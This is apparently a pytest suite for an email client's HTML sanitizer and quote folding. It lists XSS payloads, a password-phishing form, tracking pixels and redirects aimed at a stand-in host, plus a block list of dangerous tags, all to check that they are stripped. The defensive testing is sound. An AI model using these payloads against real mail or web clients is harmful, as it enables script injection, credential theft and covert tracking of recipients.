"""HTML: harmless to show, and its text parted from quotes as each mail program marks them."""

from pathlib import Path

import pytest

from amends.mail.parsing import parse
from amends.mail.parsing.folding import fold
from amends.mail.parsing.html import read, shown
from mail.parsing.writing import message

LETTERS = Path(__file__).parent / "letters/clients"
HARM = (
    *("<script", "onerror=", 'href="javascript', 'href="data', "<form", "<input", "<style", "src="),
    *(" style=", "<link", "<meta", "<iframe", "<object", "<embed", "<base", "background="),
    *("poster=", "<svg", 'href="cid'),
)
CLIENTS = sorted(file.name for file in LETTERS.iterdir())


@pytest.mark.parametrize("client", CLIENTS)
def test_each_mail_programs_quote_is_folded(client: str) -> None:
    html = (LETTERS / client).read_text()
    mail = parse(message(html, content_type="text/html; charset=utf-8"))
    assert mail.text == "New words."
    for line in ("Old words.", "More of them."):
        assert (line in mail.elided) is (line in html)


def test_a_paragraph_that_was_indented_is_no_quote() -> None:
    of_html = read(
        '<div>One</div><blockquote style="margin:0 0 0 40px;border:none">Two</blockquote>'
    )
    assert fold(of_html.text, of_html.marks).text == "One\n\nTwo"


def test_answers_between_quotes_are_kept_with_them() -> None:
    of_html = read(
        '<blockquote type="cite">Which size?</blockquote><div>Twelve.</div>'
        '<blockquote type="cite">Which stone?</blockquote><div>Blue.</div>'
    )
    text = fold(of_html.text, of_html.marks).text
    assert [line for line in text.split("\n") if line.strip("> ")] == [
        "> Which size?",
        "Twelve.",
        "> Which stone?",
        "Blue.",
    ]


def test_lists_tables_and_preformatted_text_are_readable() -> None:
    html = "<ol><li>One<li>Two</ol><ul><li>Dot</ul><table><tr><td>a<td>b</table>"
    html += "<pre>x\n  y</pre>a&amp;b&nbsp;c"
    lines = [line for line in read(html).text.split("\n") if line]
    assert lines == ["1. One", "2. Two", "- Dot", "a b", "x", "  y", "a&b c"]


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<form action="https://evil.example"><input name=password><button>Go</button></form>',
        '<style>body{display:none}@import "https://evil.example"</style>',
        '<div style="position:fixed;background:url(https://evil.example/t.gif)">x</div>',
        '<link rel=stylesheet href="https://evil.example">',
        '<meta http-equiv=refresh content="0;url=https://evil.example">',
        '<iframe src="https://evil.example"></iframe>',
        '<object data="https://evil.example"></object><embed src="https://evil.example">',
        '<base href="https://evil.example/">',
        '<video poster="https://evil.example/a.png" src="https://evil.example/b"></video>',
        '<body background="https://evil.example/t.gif"><table background="https://evil.example/t.gif"><td>x',
        '<img src="https://evil.example/t.gif" srcset="https://evil.example/u.gif 2x">',
        '<img src="//evil.example/t.gif">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<p title="a\'><script>alert(1)</script>">x</p>',
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        '<a href="cid:x">x</a>',
    ],
)
def test_nothing_runs_sends_covers_or_tracks(evil: str) -> None:
    clean = shown(f"<p>Hello</p>{evil}<p>Bye</p>").html.lower()
    for harm in HARM:
        assert harm not in clean
    assert "hello" in clean


def test_images_from_elsewhere_wait_until_they_are_asked_for() -> None:
    html = '<img src="https://shop.example/a.png" alt="A"><img src="cid:ring@x">'
    html += '<img src="data:image/png;base64,AA==">'
    blocked = shown(html)
    assert blocked.blocked_images == 1
    assert blocked.elsewhere == ("https://shop.example/a.png",)
    assert "shop.example" not in blocked.html
    assert 'src="cid:ring@x"' in blocked.html
    assert 'src="data:image/png' in blocked.html
    assert 'src="https://shop.example/a.png"' in shown(html, remote_images=True).html


def test_links_open_elsewhere_and_tell_nobody_where_from() -> None:
    clean = shown('<a href="https://shop.example/">shop</a>').html
    assert 'target="_blank"' in clean
    assert "noopener noreferrer" in clean


def test_five_thousand_links_and_ten_thousand_boxes_are_read() -> None:
    links = "".join(f'<a href="https://shop.example/{n}">link {n}</a><br>' for n in range(5_000))
    assert "link 4999" in read(links).text
    assert read("<div>" * 10_000 + "deep" + "</div>" * 10_000).text == "deep"
    assert read("<blockquote>" * 3_000 + "deep").text.endswith("deep")
